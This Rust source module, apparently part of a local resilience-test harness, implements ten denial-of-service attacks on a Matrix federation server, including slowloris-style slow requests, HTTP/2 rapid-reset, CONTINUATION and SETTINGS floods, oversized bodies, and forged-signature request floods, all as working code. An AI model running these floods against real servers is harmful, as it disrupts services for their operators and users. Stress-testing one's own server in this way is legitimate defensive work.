//! The attacks.

use std::future::pending;
use std::io;
use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::time::{interval, sleep, timeout};

use super::frames;
use super::wire::{LONG_ANSWER_TARGET, Target, Tls, send};
use crate::http1::read_message;
use crate::known::{KNOWN, OWN_NAME, forged_head};

/// The largest body there is by default.
const BODY_BYTES: usize = 13_107_200;
/// How long an attacker waits before it connects again, where it could not or was hung up on.
const RECONNECT: Duration = Duration::from_millis(100);
/// How long an answer is left unread before the next one is asked for; less by as many milliseconds as
/// the attacker's number, so that they do not come all together.
const UNREAD: Duration = Duration::from_secs(10);
/// Just above the least that is asked for, in bytes a second.
const SLOW_BODY_BYTES: usize = 5 * 1_024;

const TARGET: &str = "/_matrix/federation/v1/event/$x";
const SEND: &str = "/_matrix/federation/v1/send/1";

/// An attack: its name, how many connections it has, and what it does in the table's words.
pub const ATTACKS: [(&str, usize, &str); 10] = [
    ("slow-heads", 2_000, "slow heads, 2,000 connections"),
    ("slow-bodies", 2_000, "slow bodies, 2,000 connections"),
    ("idle", 5_000, "5,000 idle connections"),
    ("resets", 8, "HTTP/2 rapid reset, 8 connections"),
    ("continuation", 8, "HTTP/2 CONTINUATION flood, 8 connections"),
    ("settings", 8, "HTTP/2 SETTINGS flood, 8 connections"),
    ("bodies", 2_000, "2,000 bodies of 12.5 MiB at one time"),
    ("unread", 2_000, "long answers that nobody reads, 2,000 connections"),
    ("unknown", 2_000, "requests of made-up servers, 2,000 connections"),
    ("forged", 2_000, "bad signatures of a known server, 2,000 connections"),
];

struct Flood {
    target: Target,
    kind: String,
    body: Vec<u8>,
    /// Connections made, and things sent over them.
    made: AtomicU64,
    sent: AtomicU64,
}

/// Runs for `time`, from one network or from many; prints what it got done.
pub async fn run(target: Target, time: Duration, kind: &str, spread: &str) {
    let (_, connections, _) = *ATTACKS.iter().find(|(name, ..)| *name == kind).unwrap();
    let mut body = b"{\"a\":\"".to_vec();
    if kind == "bodies" {
        body.resize(BODY_BYTES - 2, b'x');
        body.extend(b"\"}");
    }
    let (made, sent) = (AtomicU64::new(0), AtomicU64::new(0));
    let flood = Arc::new(Flood { target, kind: kind.to_owned(), body, made, sent });
    for number in 0..connections {
        let source = source(number, spread);
        let flood = Arc::clone(&flood);
        tokio::spawn(async move {
            loop {
                let _hung_up = flood.attack(number, source).await;
                sleep(RECONNECT).await;
            }
        });
    }
    sleep(time).await;
    let count = |count: &AtomicU64| count.load(Ordering::Relaxed);
    println!("{} connections, {} sent", count(&flood.made), count(&flood.sent));
}

/// The address of one attacker: all in one /24, or each in its own.
fn source(number: usize, spread: &str) -> Ipv4Addr {
    let number = number as u32;
    let host = match spread {
        "one" => 1 << 16 | (number % 250 + 1),
        _ => 2 << 16 | (number << 8) | 1,
    };
    Ipv4Addr::from_bits(127 << 24 | host)
}

impl Flood {
    async fn attack(&self, number: usize, source: Ipv4Addr) -> io::Result<()> {
        let is_http2 = matches!(self.kind.as_str(), "resets" | "continuation" | "settings");
        let connecting = async {
            if is_http2 { self.target.http2(source).await } else { self.target.http1(source).await }
        };
        let mut stream = timeout(Duration::from_secs(10), connecting).await??;
        self.made.fetch_add(1, Ordering::Relaxed);
        match self.kind.as_str() {
            "slow-heads" => {
                let head = forged_head("GET", TARGET, KNOWN, 0);
                self.drip(&mut stream, &head.as_bytes()[..20], b"x").await
            }
            "slow-bodies" => {
                let head = forged_head("PUT", SEND, KNOWN, BODY_BYTES);
                self.drip(&mut stream, head.as_bytes(), &[b' '; SLOW_BODY_BYTES]).await
            }
            "idle" => until_closed(&mut stream).await,
            "bodies" => {
                let head = forged_head("PUT", SEND, KNOWN, self.body.len());
                send(&mut stream, head.as_bytes()).await?;
                send(&mut stream, &self.body).await?;
                self.sent.fetch_add(1, Ordering::Relaxed);
                read_message(&mut stream, &mut Vec::new()).await.map(drop)
            }
            "unread" => {
                let head = format!("GET {LONG_ANSWER_TARGET} HTTP/1.1\r\nHost: {OWN_NAME}\r\n\r\n");
                send(&mut stream, head.as_bytes()).await?;
                self.sent.fetch_add(1, Ordering::Relaxed);
                sleep(UNREAD - Duration::from_millis(number as u64)).await;
                Ok(())
            }
            "unknown" => self.ask(&mut stream, |turn| format!("s{number}-{turn}.invalid")).await,
            "forged" => self.ask(&mut stream, |_| KNOWN.to_owned()).await,
            kind => self.frames(stream, kind).await,
        }
    }

    /// Sends a little every second until it is hung up on.
    async fn drip(&self, stream: &mut Tls, begin: &[u8], drop: &[u8]) -> io::Result<()> {
        send(stream, begin).await?;
        let mut pace = interval(Duration::from_secs(1));
        let (mut reading, mut writing) = tokio::io::split(stream);
        let dripping = async {
            loop {
                pace.tick().await;
                self.sent.fetch_add(1, Ordering::Relaxed);
                tokio::io::AsyncWriteExt::write_all(&mut writing, drop).await?;
                tokio::io::AsyncWriteExt::flush(&mut writing).await?;
            }
        };
        let mut answer = Vec::new();
        tokio::select! {
            ended = dripping => ended,
            _ = reading.read_to_end(&mut answer) => Ok(()),
        }
    }

    /// Asks as fast as it is answered.
    async fn ask(&self, stream: &mut Tls, origin: impl Fn(u64) -> String) -> io::Result<()> {
        let mut buffer = Vec::new();
        loop {
            let turn = self.sent.fetch_add(1, Ordering::Relaxed);
            send(stream, forged_head("GET", TARGET, &origin(turn), 0).as_bytes()).await?;
            read_message(stream, &mut buffer).await?;
        }
    }

    /// Sends frames as fast as they are taken, and reads what comes.
    async fn frames(&self, stream: Tls, kind: &str) -> io::Result<()> {
        let (mut reading, mut writing) = tokio::io::split(stream);
        let writing = async {
            let mut stream = 1;
            let mut bytes = frames::hello();
            loop {
                tokio::io::AsyncWriteExt::write_all(&mut writing, &bytes).await?;
                tokio::io::AsyncWriteExt::flush(&mut writing).await?;
                (bytes, stream) = frames::next(kind, stream);
                self.sent.fetch_add(frames::BATCH, Ordering::Relaxed);
            }
        };
        let reading = async {
            let mut sink = vec![0; 65_536];
            while reading.read(&mut sink).await? > 0 {}
            Ok(())
        };
        tokio::select! {
            ended = writing => ended,
            ended = reading => ended,
        }
    }
}

async fn until_closed(stream: &mut Tls) -> io::Result<()> {
    let mut sink = [0; 64];
    while stream.read(&mut sink).await? > 0 {
        // Nothing was asked.
        pending::<()>().await;
    }
    Ok(())
}
